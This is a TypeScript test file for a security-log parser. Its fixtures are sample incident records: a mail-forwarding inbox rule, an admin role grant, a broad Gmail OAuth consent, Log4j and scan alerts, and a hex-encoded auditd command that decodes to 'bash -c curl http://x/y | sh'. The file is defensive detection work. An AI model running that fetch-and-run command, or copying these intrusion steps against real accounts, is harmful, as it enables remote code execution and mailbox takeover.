import { expect, test } from 'vitest';
import { briefOf } from '../../../src/main/group/brief/event-brief.ts';
import { createParser } from '../../../src/main/parse/create-parser.ts';
import { recordsOf } from '../../../src/main/services/records.ts';

function briefsOf(text: string): string[] {
  return createParser({ zone: 'UTC', now: 0 }).parse(recordsOf(text)).events.map(briefOf);
}

const rule = {
  CreationTime: '2025-11-16T08:12:01',
  Id: '7f1c',
  Operation: 'New-InboxRule',
  RecordType: 1,
  ResultStatus: 'True',
  UserType: 2,
  Workload: 'Exchange',
  UserId: 'anna@shop.example',
  ClientIP: '198.51.100.7',
  OrganizationName: 'shop.onmicrosoft.example',
  Parameters: [
    { Name: 'Force', Value: 'False' },
    { Name: 'ForwardTo', Value: 'x@elsewhere.example' },
    { Name: 'DeleteMessage', Value: 'True' },
  ],
};
const ruleBrief =
  'exchange: operation=new-inboxrule resultstatus=true workload=exchange clientip=IP force=false forwardto=MAIL deletemessage=true';

test("a rule of a mailbox shows its parameters, as an object and in an export's row", () => {
  const object = JSON.stringify(rule);
  expect(briefsOf(object)).toEqual([ruleBrief]);
  const head = 'RecordId,CreationDate,RecordType,Operation,UserId,AuditData';
  const row = `7f1c,2025-11-16T08:12:01.0000000Z,1,New-InboxRule,anna@shop.example,"${object.replaceAll('"', '""')}"`;
  expect(briefsOf(`${head}\n${row}`)).toEqual([ruleBrief]);
});

test('a role in Entra ID and a consent in Google Workspace are named', () => {
  const added = {
    category: 'RoleManagement',
    result: 'success',
    activityDisplayName: 'Add member to role',
    activityDateTime: '2025-11-16T08:12:01Z',
    initiatedBy: { user: { userPrincipalName: 'admin@shop.example', ipAddress: '198.51.100.7' } },
    targetResources: [
      {
        id: '5',
        type: 'User',
        userPrincipalName: 'anna@shop.example',
        modifiedProperties: [{ displayName: 'Role.DisplayName', oldValue: null, newValue: '"Global Administrator"' }],
      },
    ],
  };
  expect(briefsOf(JSON.stringify(added))[0]).toContain(
    'add member to role ipaddress=IP role_displayname=global administrator',
  );
  const consent = {
    kind: 'admin#reports#activity',
    id: { time: '2025-11-16T08:12:01.000Z', applicationName: 'token' },
    actor: { email: 'anna@shop.example' },
    events: [
      {
        type: 'auth',
        name: 'authorize',
        parameters: [
          { name: 'app_name', value: 'Mail Helper' },
          { name: 'scope', multiValue: ['https://mail.google.com/'] },
        ],
      },
    ],
  };
  expect(briefsOf(JSON.stringify(consent))[0]).toContain(
    'events=authorize type=auth app_name=mail helper scope=https://mail.google.com/',
  );
});

test('the same product has the same brief with and without a syslog header', () => {
  const line =
    'date=2025-03-15 time=02:14:03 devname="FGT60F" devid="FGT60F1" type="utm" subtype="ips" severity="high" srcip=203.0.113.5 action="dropped" attack="Apache.Log4j" dstport=3389';
  const brief =
    'firewall: type=utm subtype=ips severity=high srcip=IP action=dropped attack=apache.log4j dstport=P3389';
  expect(briefsOf(line)).toEqual([brief]);
  expect(briefsOf(`<189>Mar 15 02:14:03 gw ${line}`)).toEqual([brief]);
});

test('an object behind a syslog header is shown as an object', () => {
  const alert =
    '{"timestamp":"2025-03-15T02:14:01.000+0000","event_type":"alert","src_ip":"203.0.113.5","dest_ip":"192.0.2.4","dest_port":22,"proto":"TCP","alert":{"action":"blocked","signature":"ET SCAN x","severity":2}}';
  expect(briefsOf(`<13>Mar 15 02:14:03 gw suricata[12]: ${alert}`)[0]).toBe(
    'suricata: event_type=alert src_ip=IP dest_port=22 proto=tcp action=blocked signature=et scan x severity=2',
  );
});

test('what the audit system saw run comes first, decoded', () => {
  const [call, run] = briefsOf(
    [
      'type=SYSCALL msg=audit(1742004841.579:2995): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 items=2 ppid=1 pid=2 auid=1000 uid=0 comm="x" exe="/tmp/x" key="susp" SYSCALL=execve',
      'type=EXECVE msg=audit(1742004841.579:2995): argc=3 a0="bash" a1="-c" a2=6375726C20687474703A2F2F782F79207C207368',
    ].join('\n'),
  );
  expect(call).toBe('auditd: type=syscall exe=/tmp/x key=susp syscall=execve success=yes');
  expect(run).toBe('auditd: type=execve cmd=bash -c curl http://x/y | sh');
});
